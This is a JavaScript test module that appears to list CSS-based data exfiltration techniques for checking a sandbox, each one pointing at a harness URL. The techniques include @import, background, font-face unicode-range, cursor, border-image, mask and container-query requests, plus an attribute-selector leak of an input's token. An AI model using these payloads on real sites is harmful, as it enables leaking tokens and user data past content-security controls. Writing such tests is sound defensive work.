import { attacksOf } from '../attack.js';

/** Style sheets that load something: how data leaks where scripts may not connect. */
export const style = attacksOf('style', {
  'import rule': `$.css('@import url(' + $.http + ');');`,
  'import rule with a layer': `$.css('@import "' + $.http + '" layer(a) supports(display: grid);');`,
  'background by attribute selector': `$.put('input', {}).setAttribute('value', $.token); $.css('input[value^=v] { background: url(' + $.http + ') }');`,
  'background in a style attribute': `this.style.background = 'url(' + $.http + ')';`,
  'background in the shadow root': `const sheet = new CSSStyleSheet(); sheet.replaceSync(':host { background: url(' + $.http + ') }'); this.shadowRoot.adoptedStyleSheets = [...this.shadowRoot.adoptedStyleSheets, sheet];`,
  'font face used': `$.css('@font-face { font-family: stolen; src: url(' + $.http + ') } body { font-family: stolen }'); $.put('p', { textContent: 'x' });`,
  'font face by character': `$.css('@font-face { font-family: stolen; src: url(' + $.http + '); unicode-range: U+41 } p { font-family: stolen }'); $.put('p', { textContent: 'A' });`,
  cursor: { code: `$.css('html, body { cursor: url(' + $.http + '), auto }'); this.style.cursor = 'inherit';`, poke: 'hover' },
  'list marker': `$.css('li { list-style-image: url(' + $.http + ') }'); $.html('<ul><li>x</ul>');`,
  'border picture': `$.css('p { border: 9px solid; border-image: url(' + $.http + ') 1 }'); $.put('p', { textContent: 'x' });`,
  mask: `$.css('p { mask: url(' + $.http + ') }'); $.put('p', { textContent: 'x' });`,
  'generated content': `$.css('p::before { content: url(' + $.http + ') }'); $.put('p', { textContent: 'x' });`,
  'picture set': `$.css('p { background: image-set("' + $.http + '" 1x) }'); $.put('p', { textContent: 'x' });`,
  'cross fade': `$.css('p { background: -webkit-cross-fade(url(' + $.http + '), linear-gradient(red, red), 50%) }'); $.put('p', { textContent: 'x' });`,
  'address in a custom property': `document.documentElement.style.setProperty('--viv-color-accent', 'url(' + $.http + ')'); $.css('p { background: var(--viv-color-accent) }'); $.put('p', { textContent: 'x' });`,
  'container query that fires by width': `$.css('body { container-type: inline-size } @container (min-width: 1px) { p { background: url(' + $.http + ') } }'); $.put('p', { textContent: 'x' });`,
  'shape outside': `$.css('p { float: left; shape-outside: url(' + $.http + ') }'); $.put('p', { textContent: 'x' });`,
});
